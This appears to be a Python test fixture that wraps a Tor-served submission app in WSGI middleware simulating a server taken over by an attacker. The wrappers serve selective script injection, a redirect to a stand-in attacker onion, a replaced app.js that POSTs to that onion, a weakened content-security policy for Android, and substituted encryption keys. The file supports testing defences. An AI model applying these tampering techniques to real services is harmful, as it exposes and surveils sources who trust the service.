"""Servers that tamper in ways an attacker who holds the server would, each hiding from a
checker that looks at too little: WSGI wrappers put in front of the real app."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable, Iterable
from typing import Any

App = Callable[..., Iterable[bytes]]
EVIL_ONION = "evilrepliesxyz" * 4 + ".onion"


def rewrite(app: App, change: Callable[[dict[str, Any], list, bytes], tuple[list, bytes]]) -> App:
    """An app whose answers ``change(environ, headers, body)`` may rewrite."""

    def tampered(environ: dict[str, Any], start_response: Callable) -> Iterable[bytes]:
        captured: dict[str, Any] = {}

        def capture(status: str, headers: list, exc_info: Any = None) -> Callable:
            captured["status"], captured["headers"] = status, headers
            return lambda data: None

        result = app(environ, capture)
        try:
            body = b"".join(result)
        finally:
            getattr(result, "close", lambda: None)()
        # the answer as written, then encoded again as it was (pages come gzipped to browsers)
        encoded = any(
            k.lower() == "content-encoding" and v == "gzip" for k, v in captured["headers"]
        )
        body = gzip.decompress(body) if encoded else body
        headers, body = change(environ, list(captured["headers"]), body)
        body = gzip.compress(body, compresslevel=1) if encoded else body
        headers = [(k, v) for k, v in headers if k.lower() != "content-length"]
        start_response(captured["status"], [*headers, ("Content-Length", str(len(body)))])
        return [body]

    return tampered


def _html(headers: list) -> bool:
    return any(k.lower() == "content-type" and "text/html" in v for k, v in headers)


def russian_pages_load_a_script(app: App) -> App:
    """Every Russian page loads one more script; English ones are untouched."""

    def change(environ: dict[str, Any], headers: list, body: bytes) -> tuple[list, bytes]:
        if "lang=ru" in environ.get("QUERY_STRING", "") and _html(headers):
            body = body.replace(b"</head>", b'<script src="/static/js/extra.js"></script></head>')
        return headers, body

    return rewrite(app, change)


def pages_lead_elsewhere(app: App) -> App:
    """The replies page refreshes to another onion, and the form's "check for replies" link
    points there too: nothing is loaded that was not signed."""

    def change(environ: dict[str, Any], headers: list, body: bytes) -> tuple[list, bytes]:
        if not _html(headers):
            return headers, body
        if environ["PATH_INFO"] == "/replies":
            refresh = f'<meta http-equiv="refresh" content="0; url=http://{EVIL_ONION}/">'
            body = body.replace(b"</head>", refresh.encode() + b"</head>")
        body = body.replace(
            b'id="replies-link" class="button" href="/replies',
            f'id="replies-link" class="button" href="http://{EVIL_ONION}/replies'.encode(),
        )
        return headers, body

    return rewrite(app, change)


def script_altered_for_browsers(app: App) -> App:
    """app.js is altered only for requests that carry an Accept header (every browser sends
    one), in whichever encoding was asked for."""

    def tampered(environ: dict[str, Any], start_response: Callable) -> Iterable[bytes]:
        if environ["PATH_INFO"] == "/static/js/app.js" and "HTTP_ACCEPT" in environ:
            body = b"fetch('http://" + EVIL_ONION.encode() + b"/', {method: 'POST'});"
            start_response(
                "200 OK",
                [("Content-Type", "text/javascript"), ("Content-Length", str(len(body)))],
            )
            return [body]
        return app(environ, start_response)

    return tampered


def csp_weakened_for_android(app: App) -> App:
    """Tor Browser for Android gets a policy that lets images (a tracking pixel) come from
    anywhere; desktop browsers get the real one."""

    def change(environ: dict[str, Any], headers: list, body: bytes) -> tuple[list, bytes]:
        if "Android" in environ.get("HTTP_USER_AGENT", ""):
            headers = [
                (k, v.replace("img-src 'self'", "img-src *"))
                if k.lower() == "content-security-policy"
                else (k, v)
                for k, v in headers
            ]
        return headers, body

    return rewrite(app, change)


def epochs_rewritten(app: App, change: Callable[[dict[str, Any]], None]) -> App:
    """/api/v1/epochs as ``change`` rewrites its document (a server that holds the service
    offers the page weekly keys of its own making)."""

    def rewrite_document(environ: dict[str, Any], headers: list, body: bytes) -> tuple[list, bytes]:
        if environ["PATH_INFO"] == "/api/v1/epochs":
            document = json.loads(body)
            change(document)
            body = json.dumps(document).encode()
        return headers, body

    return rewrite(app, rewrite_document)


def config_carries_epochs(app: App, document: dict[str, Any]) -> App:
    """The submission page's config carries weekly keys, which the page's worker then seals to
    instead of asking /api/v1/epochs."""

    def change(environ: dict[str, Any], headers: list, body: bytes) -> tuple[list, bytes]:
        marker = b'id="sealdrop-config">{'
        if _html(headers) and marker in body:
            embedded = json.dumps({"epochs": document})[1:-1].replace("<", "\\u003c")
            body = body.replace(marker, marker + embedded.encode() + b", ", 1)
        return headers, body

    return rewrite(app, change)
